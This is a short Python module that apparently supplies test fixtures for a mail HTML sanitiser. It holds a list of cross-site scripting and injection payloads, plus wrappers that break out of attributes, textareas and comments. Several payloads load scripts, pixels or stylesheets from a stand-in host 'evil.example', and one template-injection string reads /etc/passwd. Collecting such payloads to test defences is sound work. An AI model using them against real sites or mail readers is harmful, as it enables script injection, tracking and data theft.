"""What a mail may try to do to the reader's browser. OUT is a place outside of this machine."""

from __future__ import annotations

OUT = "https://evil.example"
RUN = "document.title='owned'"

PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<script src={OUT}/x.js></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img src={OUT}/pixel.png>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data={OUT}/x></object>",
    f"<embed src={OUT}/x>",
    f"<link rel=stylesheet href={OUT}/x.css>",
    f"<style>@import '{OUT}/x.css';</style>",
    f"<div style=\"background:url('{OUT}/x')\">x</div>",
    f"<meta http-equiv=refresh content='0;url={OUT}'>",
    f"<base href={OUT}/>",
    f"<form action={OUT}><button autofocus>x</button></form>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<a href=javascript:{RUN}>click</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>click</a>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f'"><script>{RUN}</script>',
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</pre></div></mark><img src=x onerror={RUN}>",
    f"--><script>{RUN}</script><!--",
    f"<![CDATA[<script>{RUN}</script>]]>",
    "{{ config }} {{ ''.__class__.__mro__ }} {% include '/etc/passwd' %}",
    f"${{{RUN}}} #{{{RUN}}} <%= {RUN} %>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\u202e<script>{RUN}</script>\u2066",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"java\tscript:{RUN}",
)


WRAPPERS = (
    "{}",
    "</textarea></title></option></style>{}",
    "\"'></mark></pre></div>{}",
    "&quot;&gt;{}",
    "\N{ZERO WIDTH SPACE}{}\x0c",
    "<b>{}</b>",
    "<!--{}-->{}",
)
"""Where a payload may come to stand: bare, behind what closes our own elements, out of an attribute, in and behind a comment."""


def variants(payload: str) -> list[str]:
    """One payload in every place."""
    return [wrapper.replace("{}", payload) for wrapper in WRAPPERS]
